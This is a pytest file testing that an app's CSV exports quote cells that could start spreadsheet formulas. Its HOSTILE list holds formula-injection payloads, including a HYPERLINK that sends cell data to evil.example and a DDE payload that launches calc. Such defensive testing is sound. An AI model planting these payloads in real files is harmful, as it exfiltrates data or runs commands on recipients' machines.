"""No export can run a formula (issue 9, defect 3): every CSV people download goes through core.csvout."""
import csv
import io

import pytest
import sqlalchemy as sa

from core.csvout import safe_cell
from core.db import db
from offers.grants import accept
from offers.models import OfferGrant
from tests.accounts.factories import HEADER, RECOVERY_HEADER, make_incident, run_import
from tests.conftest import make_operator, sign_in
from tests.offers.helpers import issue, make_program

# Each would run in a spreadsheet if written verbatim.
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A2,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_could_start_a_formula_is_quoted_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["+15551234567", "-12", "-0.5", "3", "Ana", "a=b", "", "O'Brien"])
def test_plain_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value


def no_formulas(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell
            assert not (cell.startswith(("+", "-")) and not cell.lstrip("+-").replace(".", "").isdigit()), cell
    return rows


def hostile_accounts(incident_id: int) -> None:
    rows = "".join(f'A{i},"{name.replace(chr(34), chr(34) * 2)}",,a{i}@example.com,en\n'
                   for i, name in enumerate(HOSTILE))
    job = run_import(incident_id, HEADER + rows)
    assert job.status.value == "done", (job.message, job.errors)


def test_the_affected_accounts_export_quotes_formulas_in_the_console_and_the_api(client, api_token):
    incident = make_incident()
    hostile_accounts(incident.id)
    make_operator("viewer")
    sign_in(client, "viewer@example.com")
    console = client.get(f"/ops/incidents/{incident.id}/accounts.csv")
    assert console.status_code == 200
    rows = no_formulas(console.get_data(as_text=True))
    # The import trims surrounding whitespace, so "\t=1+1" is stored as "=1+1": quoted all the same.
    assert sorted(r[1] for r in rows[1:]) == sorted("'" + v.strip() for v in HOSTILE)
    _, secret = api_token
    api = client.get(f"/api/ops/v1/incidents/{incident.id}/affected-accounts.csv",
                     headers={"Authorization": f"Bearer {secret}"})
    assert api.status_code == 200
    assert len(no_formulas(api.get_data(as_text=True))) == len(HOSTILE) + 1


def test_the_accepted_offers_export_quotes_formulas_in_the_console_api_and_cli(client, api_token, runner):
    incident = make_incident()
    hostile_accounts(incident.id)
    lost = "".join(f"A{i},contacts,lost,,,\n" for i in range(len(HOSTILE)))
    assert run_import(incident.id, RECOVERY_HEADER + lost, kind="recovery").status.value == "done"
    program = make_program(incident.id)
    issue(program.id)
    for grant in db.session.scalars(sa.select(OfferGrant)):
        accept(db.session, grant, via="web")
    db.session.commit()
    make_operator("viewer")
    sign_in(client, "viewer@example.com")
    console = client.get(f"/ops/offers/{program.id}/accepted.csv")
    assert console.status_code == 200
    assert len(no_formulas(console.get_data(as_text=True))) == len(HOSTILE) + 1
    _, secret = api_token
    api = client.get(f"/api/ops/v1/offer-programs/{program.id}/accepted.csv",
                     headers={"Authorization": f"Bearer {secret}"})
    assert api.status_code == 200
    assert len(no_formulas(api.get_data(as_text=True))) == len(HOSTILE) + 1
    result = runner.invoke(args=["offers", "export", str(program.id)])
    assert result.exit_code == 0, result.output
    assert len(no_formulas(result.output)) == len(HOSTILE) + 1


def test_the_rejected_rows_file_of_an_import_quotes_formulas(app):
    incident = make_incident()
    rows = "".join(f'=A{i},"{name.replace(chr(34), chr(34) * 2)}",not-a-phone,,en\n' for i, name in enumerate(HOSTILE))
    job = run_import(incident.id, HEADER + rows, skip_invalid=True)
    assert job.error_csv_path, (job.status, job.message)
    with open(job.error_csv_path, encoding="utf-8") as f:
        rows = no_formulas(f.read())
    assert len(rows) == len(HOSTILE) + 1
